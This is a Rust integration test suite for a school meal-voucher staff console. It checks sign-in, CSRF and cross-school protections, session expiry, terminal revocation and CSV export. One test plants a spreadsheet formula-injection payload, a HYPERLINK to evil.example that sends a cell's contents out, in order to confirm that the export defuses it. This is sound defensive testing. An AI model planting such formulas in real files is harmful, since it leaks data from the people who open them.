//! The school console over plain HTTP against the real `wallet-server --demo`: sign-in
//! through the demo OpenID provider (state, PKCE, nonce), cookie attributes, and the bad
//! input of the issue — missing or forged CSRF token, another school's BIN in the URL, a
//! card UID in a wrong format, a double-clicked approve, an expired session — each with a
//! clear page and nothing changed. Faster than the browser test, and every step visible.

mod common;
mod console_support;

use serde_json::{json, Value};
use time::OffsetDateTime;

use common::{Server, DEMO_SCHOOL_BIN, OTHER_SCHOOL_BIN};
use console_support::{client, send, Console};

const DANA: &str = "Ким Дана Сергеевна";
const TIMUR: &str = "Омаров Тимур"; // the other school's pupil

fn rfc3339(t: OffsetDateTime) -> String {
    t.format(&time::format_description::well_known::Rfc3339)
        .expect("format")
}

/// The voucher id of a demo student, from the school API.
async fn voucher_of(server: &Server, name: &str) -> String {
    let token = server
        .staff_token("social_pedagogue", DEMO_SCHOOL_BIN)
        .await;
    let list = server
        .get(
            &format!("/v1/schools/{DEMO_SCHOOL_BIN}/vouchers"),
            Some(&token),
        )
        .await
        .ok_json();
    let found: Option<&Value> = list["vouchers"]
        .as_array()
        .expect("vouchers")
        .iter()
        .find(|v| v["student"]["full_name"] == name);
    found.expect("the student's voucher")["id"]
        .as_str()
        .expect("id")
        .to_string()
}

async fn card_of(server: &Server, name: &str) -> Option<String> {
    let token = server
        .staff_token("social_pedagogue", DEMO_SCHOOL_BIN)
        .await;
    let list = server
        .get(
            &format!("/v1/schools/{DEMO_SCHOOL_BIN}/vouchers"),
            Some(&token),
        )
        .await
        .ok_json();
    list["vouchers"]
        .as_array()
        .expect("vouchers")
        .iter()
        .find(|v| v["student"]["full_name"] == name)
        .and_then(|v| v["student"]["card_uid"].as_str().map(str::to_string))
}

async fn set_clock(server: &Server, now: OffsetDateTime) {
    let answer = server
        .post_json("/dev/clock", None, &json!({"now": rfc3339(now)}))
        .await;
    assert_eq!(answer.status, 200, "{}", answer.text);
}

#[tokio::test]
async fn sign_in_cookies_and_bad_input() {
    let data = tests::private_tempdir();
    let server = Server::demo(data.path());
    let students = format!("/console/schools/{DEMO_SCHOOL_BIN}/students");
    let card_form = format!("{students}/card");

    anonymous_and_forged_sign_in(&server, &students).await;

    // The social pedagogue signs in: the session cookie is HttpOnly, SameSite=Lax, and not
    // Secure over plain http.
    let staff = Console::sign_in(&server, "social_pedagogue", DEMO_SCHOOL_BIN).await;
    let page = staff.get(&students).await;
    assert_eq!(page.status, 200, "{}", page.body);
    assert!(page.body.contains(DANA) && !page.body.contains(TIMUR));
    // An upper-grade pupil of the list without a voucher yet is listed, waiting for consent.
    assert!(page.body.contains("Сапаров Нурлан"), "{}", page.body);
    assert!(page.body.contains("ждёт согласия"));
    let csrf = page.csrf();
    let dana = voucher_of(&server, DANA).await;

    // Missing and forged CSRF tokens: a clear page, the card is not bound.
    for token in [None, Some("forged-token")] {
        let mut pairs = vec![("voucher", dana.as_str()), ("card_uid", "0102ABCDEF")];
        if let Some(t) = token {
            pairs.push(("csrf", t));
        }
        let refused = staff.post(&card_form, &pairs).await;
        assert_eq!(refused.status, 403, "{}", refused.body);
        assert!(
            refused.body.contains("Форма не прошла проверку"),
            "{}",
            refused.body
        );
        assert!(refused.body.contains("Ничего не изменено"));
    }
    assert_eq!(card_of(&server, DANA).await, None);

    // A card UID in a wrong format: the message on the page, nothing bound.
    let bad = staff
        .post(
            &card_form,
            &[("csrf", &csrf), ("voucher", &dana), ("card_uid", "12-34")],
        )
        .await;
    assert_eq!(bad.status, 422);
    assert!(bad.body.contains("Неверный UID карты"), "{}", bad.body);
    assert_eq!(card_of(&server, DANA).await, None);

    // Another school's BIN in the URL: not found, nothing of that school shown or changed.
    let other = staff
        .get(&format!("/console/schools/{OTHER_SCHOOL_BIN}/students"))
        .await;
    assert_eq!(other.status, 404);
    assert!(other.body.contains("Страница не найдена") && !other.body.contains(TIMUR));
    let other_post = staff
        .post(
            &format!("/console/schools/{OTHER_SCHOOL_BIN}/students/card"),
            &[
                ("csrf", &csrf),
                ("voucher", &dana),
                ("card_uid", "0102ABCDEF"),
            ],
        )
        .await;
    assert_eq!(other_post.status, 404);
    assert_eq!(card_of(&server, DANA).await, None);

    // A good card binds (lower case accepted), then unbinds.
    let bound = staff
        .post(
            &card_form,
            &[
                ("csrf", &csrf),
                ("voucher", &dana),
                ("card_uid", "0102abcdef"),
            ],
        )
        .await;
    assert_eq!(bound.status, 303, "{}", bound.body);
    assert!(bound
        .location
        .as_deref()
        .is_some_and(|l| l.ends_with("msg=bound")));
    assert_eq!(card_of(&server, DANA).await.as_deref(), Some("0102ABCDEF"));
    let shown = staff.get(&format!("{students}?msg=bound&q=1В")).await;
    assert!(shown.body.contains("Карта привязана") && shown.body.contains("0102ABCDEF"));
    let unbound = staff
        .post(
            &format!("{students}/unbind"),
            &[("csrf", &csrf), ("voucher", &dana)],
        )
        .await;
    assert!(unbound
        .location
        .as_deref()
        .is_some_and(|l| l.ends_with("msg=unbound")));
    assert_eq!(card_of(&server, DANA).await, None);

    // The CSV export.
    let csv = staff.get(&format!("{students}.csv")).await;
    assert_eq!(csv.status, 200);
    assert!(csv.content_type.starts_with("text/csv"));
    assert!(csv.bytes.starts_with(b"\xEF\xBB\xBF") && csv.body.contains(DANA));

    // Kazakh is remembered for this staff member, also in a new session.
    let switched = staff
        .post(
            "/console/lang",
            &[("csrf", &csrf), ("lang", "kk"), ("back", &students)],
        )
        .await;
    assert_eq!(switched.status, 303);
    let again = Console::sign_in(&server, "social_pedagogue", DEMO_SCHOOL_BIN).await;
    let kk = again.get(&students).await;
    assert!(kk.body.contains("Оқушылар мен ваучерлер") && kk.body.contains(r#"lang="kk""#));

    // A social pedagogue cannot approve.
    let month = common::story_now().to_offset(time::macros::offset!(+5));
    let this_month = format!("{}-{:02}", month.year(), u8::from(month.month()));
    let approve = format!("/console/schools/{DEMO_SCHOOL_BIN}/tabel/approve");
    let refused = staff
        .post(&approve, &[("csrf", &csrf), ("month", &this_month)])
        .await;
    assert_eq!(refused.status, 403);
    assert!(refused.body.contains("только директор"));

    terminals_are_enrolled_and_revoked(&server, &staff, &csrf).await;

    // Sign-out ends the session: the old cookie leads to sign-in.
    let out = staff.post("/console/logout", &[("csrf", &csrf)]).await;
    assert_eq!(out.status, 303);
    assert!(out
        .set_cookies
        .iter()
        .any(|c| c.starts_with("sw_console=;") && c.contains("Max-Age=0")));
    assert_eq!(staff.get(&students).await.status, 303);

    // The director, in the next month: approve the finished month twice.
    let next = month.date().replace_day(1).expect("first") + time::Duration::days(32);
    let first_of_next = next
        .replace_day(1)
        .expect("first")
        .with_hms(9, 0, 0)
        .expect("time")
        .assume_offset(time::macros::offset!(+5));
    set_clock(&server, first_of_next).await;
    // `again` was signed in before the clock moved by more than 8 hours: expired.
    let expired = again.get(&students).await;
    assert_eq!(expired.status, 303);
    assert_eq!(
        expired.location.as_deref(),
        Some("/console/login?expired=1")
    );
    let expired_post = again
        .post(
            &card_form,
            &[
                ("csrf", &kk.csrf()),
                ("voucher", &dana),
                ("card_uid", "0102ABCDEF"),
            ],
        )
        .await;
    assert_eq!(expired_post.status, 303);
    assert_eq!(card_of(&server, DANA).await, None);
    let login = send(client().get(server.url("/console/login?expired=1"))).await;
    assert!(login.body.contains("Сессия истекла"));

    let director = Console::sign_in(&server, "director", DEMO_SCHOOL_BIN).await;
    let tabel = director
        .get(&format!(
            "/console/schools/{DEMO_SCHOOL_BIN}/tabel?month={this_month}"
        ))
        .await;
    assert!(tabel.body.contains(r#"id="approve""#), "{}", tabel.body);
    let confirm = director.get(&format!("{approve}?month={this_month}")).await;
    assert_eq!(confirm.status, 200);
    assert!(confirm.body.contains("Подтвердите утверждение"));
    let csrf = confirm.csrf();
    let first = director
        .post(&approve, &[("csrf", &csrf), ("month", &this_month)])
        .await;
    let second = director
        .post(&approve, &[("csrf", &csrf), ("month", &this_month)])
        .await;
    assert!(
        first
            .location
            .as_deref()
            .is_some_and(|l| l.ends_with("msg=approved")),
        "{:?}",
        first.location
    );
    assert!(
        second
            .location
            .as_deref()
            .is_some_and(|l| l.ends_with("msg=already")),
        "{:?}",
        second.location
    );
    let stamped = director
        .get(second.location.as_deref().expect("location"))
        .await;
    assert!(stamped.body.contains("уже утверждён"), "{}", stamped.body);
    assert_eq!(stamped.body.matches(r#"id="approval-stamp""#).count(), 1);
    assert!(!stamped.body.contains(r#"id="approve""#));
    // Signed in through OpenID, the director is named by the provider's `name` claim.
    assert!(
        stamped
            .body
            .contains("Сейткали Айгуль Бекболатовна (директор)"),
        "{}",
        stamped.body
    );
    // The frozen табель downloads as a PDF.
    let pdf = director
        .get(&format!(
            "/console/schools/{DEMO_SCHOOL_BIN}/tabel/download?month={this_month}&format=pdf"
        ))
        .await;
    assert_eq!(pdf.status, 200);
    assert!(pdf.bytes.starts_with(b"%PDF"));

    // The console is HTML, not part of the API document.
    let openapi = server.get("/openapi.json", None).await;
    assert!(!openapi.text.contains("/console"));
    server.stop();
}

/// Not signed in, every page leads to sign-in; a forged `state` opens no session.
async fn anonymous_and_forged_sign_in(server: &Server, students: &str) {
    // Not signed in: every page sends the browser to sign-in.
    let anonymous = send(client().get(server.url(students))).await;
    assert_eq!(anonymous.status, 303);
    assert!(anonymous
        .location
        .as_deref()
        .is_some_and(|l| l.starts_with("/console/login")));
    let login = send(client().get(server.url("/console/login"))).await;
    assert_eq!(login.status, 200);
    assert!(
        login.body.contains("Вход для сотрудников школы"),
        "{}",
        login.body
    );
    assert!(login.body.contains("Мектеп қызметкерлерінің кіруі"));

    // A forged `state` at the callback opens no session.
    let start = send(client().get(server.url("/console/auth/start"))).await;
    let auth_cookie = start.cookie("sw_console_auth").expect("auth cookie");
    assert!(
        start.set_cookies[0].contains("HttpOnly") && start.set_cookies[0].contains("SameSite=Lax")
    );
    let forged = send(
        client()
            .get(server.url("/console/auth/callback?code=abc&state=forged"))
            .header("cookie", &auth_cookie),
    )
    .await;
    assert_eq!(forged.status, 400, "{}", forged.body);
    assert!(forged.body.contains("Войти не удалось"));
    assert!(forged.cookie("sw_console").is_none());
}

/// A code shown once, a terminal enrolls with it, the console revokes it (a forged token
/// first: refused, the terminal keeps working).
async fn terminals_are_enrolled_and_revoked(server: &Server, staff: &Console<'_>, csrf: &str) {
    // Terminals: a code shown once, a terminal enrolls with it, the console revokes it
    // (a forged token first: refused, the terminal keeps working).
    let terminals = format!("/console/schools/{DEMO_SCHOOL_BIN}/terminals");
    let created = staff.post(&terminals, &[("csrf", csrf)]).await;
    assert_eq!(created.status, 201, "{}", created.body);
    let code = created
        .body
        .split(r#"id="enrollment-code">"#)
        .nth(1)
        .and_then(|r| r.split('<').next())
        .expect("the code on the page")
        .to_string();
    let enrolled = server
        .post_json(
            "/v1/terminals/enroll",
            None,
            &json!({"code": code, "name": "Касса 2"}),
        )
        .await
        .ok_json();
    let device = enrolled["token"]
        .as_str()
        .expect("device token")
        .to_string();
    let listed = staff.get(&terminals).await;
    let id = listed
        .body
        .split(r#"name="terminal" value=""#)
        .nth(1)
        .and_then(|r| r.split('"').next())
        .expect("terminal id")
        .to_string();
    let revoke = format!("{terminals}/revoke");
    let forged = staff
        .post(&revoke, &[("csrf", "x"), ("terminal", &id)])
        .await;
    assert_eq!(forged.status, 403);
    assert_eq!(
        server
            .get("/v1/terminals/sync?cursor=0", Some(&device))
            .await
            .status,
        200
    );
    let revoked = staff
        .post(&revoke, &[("csrf", csrf), ("terminal", &id)])
        .await;
    assert_eq!(revoked.status, 303, "{}", revoked.body);
    assert_eq!(
        server
            .get("/v1/terminals/sync?cursor=0", Some(&device))
            .await
            .status,
        401
    );
}

/// A list row whose name and class a spreadsheet would read as formulas comes out of the
/// students export as text (`'` first), as in the табель's CSV.
#[tokio::test]
async fn the_students_export_defuses_formulas() {
    let dir = tests::private_tempdir();
    let server = Server::demo(dir.path());
    let term = common::wallet::Term::enter(&server).await;
    let rep = common::wallet::rep(
        &common::wallet::iin(1986, time::Month::June, 6, shared::Sex::Female, 1234).expose(),
        "Формулова Мать",
        "mother",
        Some("77015550166"),
    );
    let evil = r#"=HYPERLINK("http://evil.example/?x="&B2,"Click")"#;
    let list = common::canteen::demo_school_list(
        &term.period(),
        vec![common::wallet::student(
            &common::wallet::iin(2018, time::Month::June, 6, shared::Sex::Male, 1234).expose(),
            evil,
            2,
            "-1+2",
            "primary",
            vec![rep],
        )],
    );
    let taken = common::wallet::send_list(&server, &list).await.ok_json();
    assert_eq!(taken["rejected"], json!([]), "{taken:#}");
    let console = Console::sign_in(&server, "social_pedagogue", DEMO_SCHOOL_BIN).await;
    let page = console
        .get(&format!("/console/schools/{DEMO_SCHOOL_BIN}/students.csv"))
        .await;
    assert_eq!(page.status, 200, "{}", page.body);
    let line = page
        .body
        .lines()
        .find(|l| l.contains("HYPERLINK"))
        .unwrap_or_else(|| panic!("the row in:\n{}", page.body));
    let cells: Vec<&str> = line.split(';').collect();
    assert!(
        cells[0].starts_with(r#""'=HYPERLINK"#) || cells[0].starts_with("'=HYPERLINK"),
        "{line}"
    );
    assert_eq!(cells[1], "'-1+2", "{line}");
    assert!(
        !page
            .body
            .lines()
            .any(|l| l.starts_with('=') || l.contains(";=") || l.contains(";-1")),
        "no cell starts a formula:\n{}",
        page.body
    );
}

/// The counter on the console (issue 19): the Today page shows the whole school's progress
/// per slot and class, manual meals per worker and the latest meals; staff void one (a reason
/// is required, another school's URL finds nothing), give a class its shift, and set a
/// pupil's alert line, which reaches the school's terminals.
#[tokio::test]
async fn today_progress_void_shift_and_alert_line() {
    let data = tests::private_tempdir();
    let server = Server::demo(data.path());
    let period = shared::time::month_of(common::story_now()).to_string();
    let (pupils, _) = common::drills::fill_school(&server, &period, 2).await;
    let terminal = common::drills::demo_terminal_token(&server).await;
    let served_at = common::story_now() + time::Duration::minutes(1);
    let event = "01937000-0000-7000-8000-00000000c0de";
    let answer = server
        .post_json(
            "/v1/terminals/meals",
            Some(&terminal),
            &json!({"events": [{
                "event_id": event,
                "voucher_id": pupils[0].voucher,
                "slot": "day",
                "service_day": shared::time::service_day(served_at).to_string(),
                "served_at": rfc3339(served_at),
                "method": "manual",
                "manual_reason": "Забыл карту",
                "worker": "Гульнара",
            }]}),
        )
        .await
        .ok_json();
    assert_eq!(answer["results"][0]["status"], "accepted", "{answer}");

    let base = format!("/console/schools/{DEMO_SCHOOL_BIN}");
    let staff = Console::sign_in(&server, "social_pedagogue", DEMO_SCHOOL_BIN).await;
    let today = staff.get(&format!("{base}/today")).await;
    assert_eq!(today.status, 200, "{}", today.body);
    for id in [
        "progress-slots",
        "progress-classes",
        "manual-per-worker",
        "recent-meals",
        "class-shifts",
    ] {
        assert!(
            today.body.contains(&format!(r#"id="{id}""#)),
            "{id}: {}",
            today.body
        );
    }
    assert!(today.body.contains("Гульнара") && today.body.contains(&pupils[0].name));
    let row_3d = today
        .body
        .split("3Д")
        .nth(1)
        .expect("3Д in the class progress");
    assert!(
        row_3d.contains(r#"<td class="num">1</td><td class="num">2</td>"#),
        "{row_3d}"
    );
    let csrf = today.csrf();
    let void = format!("{base}/today/void");

    // No reason: sent back with the message, the meal still counts.
    let refused = staff
        .post(
            &void,
            &[("csrf", &csrf), ("event_id", event), ("reason", " ")],
        )
        .await;
    assert_eq!(refused.status, 303);
    assert!(refused
        .location
        .as_deref()
        .is_some_and(|l| l.ends_with("msg=need_reason")));
    let api = server
        .staff_token("social_pedagogue", DEMO_SCHOOL_BIN)
        .await;
    let served = |v: &Value| v["progress"]["slots"][0]["served"].clone();
    let counter = format!("/v1/schools/{DEMO_SCHOOL_BIN}/counter/today");
    assert_eq!(served(&server.get(&counter, Some(&api)).await.ok_json()), 1);
    // Another school's URL: not found, nothing voided.
    let foreign = staff
        .post(
            &format!("/console/schools/{OTHER_SCHOOL_BIN}/today/void"),
            &[("csrf", &csrf), ("event_id", event), ("reason", "ошибка")],
        )
        .await;
    assert_eq!(foreign.status, 404);
    assert_eq!(served(&server.get(&counter, Some(&api)).await.ok_json()), 1);
    let voided = staff
        .post(
            &void,
            &[
                ("csrf", &csrf),
                ("event_id", event),
                ("reason", "Не тот ребёнок"),
            ],
        )
        .await;
    assert!(
        voided
            .location
            .as_deref()
            .is_some_and(|l| l.ends_with("msg=voided")),
        "{}",
        voided.body
    );
    let after = staff.get(&format!("{base}/today?msg=voided")).await;
    assert!(
        after.body.contains("Питание аннулировано."),
        "{}",
        after.body
    );
    assert_eq!(served(&server.get(&counter, Some(&api)).await.ok_json()), 0);

    // A class's shift.
    let saved = staff
        .post(
            &format!("{base}/today/shift"),
            &[("csrf", &csrf), ("class_label", "3Д"), ("shift", "2")],
        )
        .await;
    assert!(saved
        .location
        .as_deref()
        .is_some_and(|l| l.ends_with("msg=shift_saved")));
    let shifts = server
        .get(
            &format!("/v1/schools/{DEMO_SCHOOL_BIN}/class-shifts"),
            Some(&api),
        )
        .await
        .ok_json();
    assert_eq!(
        shifts["classes"],
        json!([{"class_label": "3Д", "shift": 2}])
    );

    // The alert line: too long is refused and changes nothing; a line reaches the roster.
    let alert = format!("{base}/students/alert");
    let long = "а".repeat(201);
    let too_long = staff
        .post(
            &alert,
            &[
                ("csrf", &csrf),
                ("voucher", &pupils[1].voucher),
                ("line", &long),
            ],
        )
        .await;
    assert!(too_long
        .location
        .as_deref()
        .is_some_and(|l| l.ends_with("msg=bad_alert")));
    let done = staff
        .post(
            &alert,
            &[
                ("csrf", &csrf),
                ("voucher", &pupils[1].voucher),
                ("line", "Аллергия на мёд"),
            ],
        )
        .await;
    assert!(done
        .location
        .as_deref()
        .is_some_and(|l| l.ends_with("msg=alert_saved")));
    let students = staff.get(&format!("{base}/students?msg=alert_saved")).await;
    assert!(
        students.body.contains(r#"value="Аллергия на мёд""#),
        "{}",
        students.body
    );
    let sync = server
        .get("/v1/terminals/sync?cursor=0", Some(&terminal))
        .await
        .ok_json();
    let entry = sync["roster"]
        .as_array()
        .expect("roster")
        .iter()
        .find(|e| e["voucher_id"] == pupils[1].voucher.as_str())
        .expect("on the roster")
        .clone();
    assert_eq!(entry["alert"], "Аллергия на мёд");
    assert_eq!(entry["shift"], 2);
}
